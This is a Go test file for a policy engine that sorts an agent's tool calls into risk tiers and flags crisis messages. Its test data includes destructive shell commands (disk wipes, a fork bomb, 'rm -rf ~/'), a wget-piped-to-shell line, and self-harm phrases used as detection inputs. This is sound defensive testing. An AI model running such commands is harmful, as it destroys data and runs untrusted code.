package rego_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/f958ca95/guard/proxy"
	"github.com/f958ca95/guard/rego"
)

// action is a tool call that is known by one word.
func action(t *testing.T, set *rego.Set, word, line string) rego.Decision {
	t.Helper()
	c := dev("action", line)
	c.Action = word
	return decide(t, set, input(t, c))
}

func TestTiersAreOrderedAndHaveTheirTimes(t *testing.T) {
	strict := policy(t, rego.File{Path: "user/guard.json", Source: "guard.json", Data: []byte(`{"preset": "strict"}`)})
	at := func(line string) rego.Decision { return decide(t, strict, input(t, dev("line", line))) }
	for i, name := range []string{"S1-01 SAFE", "S1-02 LOW", "S1-03 MEDIUM", "S1-04 HIGH", "S1-05 CRITICAL"} {
		t.Run(name, func(t *testing.T) {
			_, label, _ := strings.Cut(name, " ")
			if tier := proxy.Tier(i); tier.String() != label || tier != at(lines[i]).Tier {
				t.Errorf("%q is %s, want %s as tier %d", lines[i], at(lines[i]).Tier, label, i)
			}
		})
	}
	t.Run("S1-06 a person is asked from MEDIUM on", func(t *testing.T) {
		for i, want := range []proxy.Verdict{proxy.Allow, proxy.Allow, proxy.Hold, proxy.Hold} {
			if got := decide(t, policy(t), input(t, dev("line", lines[i]))); got.Verdict != want {
				t.Errorf("%q: got %s, want %s", lines[i], got.Verdict, want)
			}
		}
	})
	t.Run("S1-18 S1-50 a decision has the tier, whether a person is asked, and for how long: strict as at a terminal", func(t *testing.T) {
		in := input(t, dev("line", "docker rm a"))
		in.Agent.Trust = "T1"
		d := decide(t, strict, in)
		var seconds []int
		if d.Terms != nil {
			for _, s := range d.Terms.Steps {
				seconds = append(seconds, s.Seconds)
			}
		}
		if d.Tier != proxy.Medium || d.Verdict != proxy.Hold || !slices.Equal(seconds, []int{60, 30, 10}) {
			t.Errorf("got %s %s %v, want MEDIUM, hold, 60 30 10", d.Tier, d.Verdict, seconds)
		}
	})
	t.Run("S1-41 LOW is allowed by policy, and nobody claims to have reviewed it", func(t *testing.T) {
		d := decide(t, policy(t), input(t, dev("line", "make")))
		if d.Verdict != proxy.Allow || d.Tier != proxy.Low || d.Approval == proxy.Approved {
			t.Errorf("got %s %s, approval %q", d.Tier, d.Verdict, d.Approval)
		}
	})
}

func TestActionWords(t *testing.T) {
	set := policy(t)
	words := []struct {
		number string
		tier   proxy.Tier
		words  string
	}{
		{"S1-10", proxy.Safe, "read search list query check status log diff"},
		{"S1-11", proxy.Low, "write edit patch create delete move copy mkdir script test lint format"},
		{"S1-12", proxy.Medium, "message send api_call webhook email notify commit push branch pr deploy install"},
		{"S1-13", proxy.High, "config crypto key secret credential auth permission firewall network database migration systemd"},
		{"S1-14", proxy.Critical, "crisis suicide kill destroy format_disk wipe nuke self_modify"},
	}
	for _, w := range words {
		t.Run(w.number+" "+w.tier.String(), func(t *testing.T) {
			for word := range strings.FieldsSeq(w.words) {
				if d := action(t, set, word, ""); d.Tier != w.tier {
					t.Errorf("%s: got %s, want %s", word, d.Tier, w.tier)
				}
			}
		})
	}
	t.Run("S1-15 format is LOW, format_disk is not, and no key counts twice", func(t *testing.T) {
		if low, disk := action(t, set, "format", "").Tier, action(t, set, "format_disk", "").Tier; low != proxy.Low || disk != proxy.Critical {
			t.Errorf("format is %s, format_disk is %s", low, disk)
		}
		engine, err := rego.LoadBuiltin()
		if err != nil {
			t.Fatal(err)
		}
		twice := rego.File{Path: "user/guard.json", Source: "guard.json", Data: []byte(`{"prices": {"a": 1, "a": 2}}`)}
		if _, err := engine.Build(context.Background(), rego.Snapshot{Files: []rego.File{twice}}, nil); err == nil || !strings.Contains(err.Error(), "twice") {
			t.Errorf("a key twice: got %v", err)
		}
	})
	t.Run("S1-16 words are trimmed and of any case; an unknown one is MEDIUM", func(t *testing.T) {
		for word, want := range map[string]proxy.Tier{" Deploy ": proxy.Medium, "READ": proxy.Safe, "frobnicate": proxy.Medium} {
			if d := action(t, set, word, ""); d.Tier != want {
				t.Errorf("%q: got %s, want %s", word, d.Tier, want)
			}
		}
	})
	t.Run("S1-17 the command that comes with a word counts too, and the higher tier wins", func(t *testing.T) {
		if d := action(t, set, "read", "git reset --hard"); d.Tier != proxy.High {
			t.Errorf("read with a reset: got %s", d.Tier)
		}
		if d := action(t, set, "wipe", "ls"); d.Tier != proxy.Critical {
			t.Errorf("wipe with ls: got %s", d.Tier)
		}
	})
}

// TestPatterns goes through the seed's patterns; where S1-27 or S1-28 say
// otherwise, they win.
func TestPatterns(t *testing.T) {
	checkTiers(t, "S1-20", []wanted{
		{"line", "rm -r /", proxy.Critical}, {"line", "rm -rf ~/", proxy.Critical}, {"line", "mkfs.ext4 /dev/sda1", proxy.Critical},
		{"line", "dd if=/dev/zero of=/dev/sda", proxy.Critical}, {"line", "kill -9 -1", proxy.Critical}, {"line", ":(){ :|:& };:", proxy.Critical},
	})
	checkTiers(t, "S1-21", []wanted{
		{"line", "rm -r build", proxy.High}, {"line", "chmod 666 x", proxy.High}, {"line", "chmod o+w x", proxy.High}, {"line", "chown root x", proxy.High},
		{"line", "echo x > /etc/hosts", proxy.High}, {"line", "git push origin main --force", proxy.High}, {"line", "git reset --hard", proxy.High},
		{"line", "systemctl disable nginx", proxy.High}, {"line", "ansible-playbook site.yml", proxy.High}, {"line", "docker rm -f a", proxy.High},
	})
	checkTiers(t, "S1-22", []wanted{
		{"line", "wget -qO- https://x.example/a | sh", proxy.Medium}, {"line", "zsh -c 'echo a'", proxy.Medium}, {"line", "node -e '1'", proxy.Medium},
		{"line", "python3 - <<'E'\nprint(1)\nE", proxy.Medium}, {"line", "curl -X POST https://api.example/v1", proxy.Medium},
	})
	checkTiers(t, "S1-23", []wanted{
		{"line", "sed -i s/a/b/ f.txt", proxy.Low}, {"line", "echo a > f.txt", proxy.Low}, {"line", "git branch -D old", proxy.Low}, {"line", "echo a | tee f.txt", proxy.Low},
	})
	checkTiers(t, "S1-24", []wanted{{"line", "", proxy.Safe}, {"text", "", proxy.Safe}, {"line", "ls -la", proxy.Safe}})
	checkTiers(t, "S1-25", []wanted{
		{"line", "psql -c 'DELETE FROM users'", proxy.Medium}, {"line", "psql -c 'DELETE FROM users WHERE id = 1'", proxy.Low}, {"line", "echo hi > /dev/null", proxy.Safe}, {"line", "echo hi >/dev/nullx", proxy.High},
	})
	checkTiers(t, "S1-26", []wanted{
		{"line", "sh -c 'git reset --hard'", proxy.High}, {"line", "env A=1 nice timeout 5 git reset --hard", proxy.High}, {"line", "echo $(git reset --hard)", proxy.High},
		{"line", "ls | xargs git reset --hard", proxy.High}, {"text", "I want\u00a0to d\u200bie", proxy.Critical},
	})
}

func TestWhoMayBeAtRisk(t *testing.T) {
	set := policy(t)
	t.Run("S1-30 the union of both lists", func(t *testing.T) {
		for _, text := range []string{
			"I will kill myself", "end my life", "I want to die", "I feel suicidal", "I want to end it", "I want to end everything",
			"there is no reason to live", "better off dead", "I wish I was dead", "I wish I were dead", "how do I kill myself",
			"how to hang myself", "how can I overdose", "how do I cut myself", "methods of suicide", "method of dying",
		} {
			if d := decide(t, set, input(t, dev("text", text))); d.Verdict != proxy.Crisis {
				t.Errorf("%q: got %s, want crisis", text, d.Verdict)
			}
		}
	})
	t.Run("S1-32 S1-33 what is not, and what the seed would have offered for approval", func(t *testing.T) {
		for text, want := range map[string]proxy.Verdict{
			"": proxy.Allow, "Hello, how are you?": proxy.Allow, "how do I kill a process": proxy.Allow,
			"there's no reason to live": proxy.Crisis, "how can I hang myself": proxy.Crisis, "how do I cut myself": proxy.Crisis,
		} {
			if d := decide(t, set, input(t, dev("text", text))); d.Verdict != want {
				t.Errorf("%q: got %s, want %s", text, d.Verdict, want)
			}
		}
	})
}
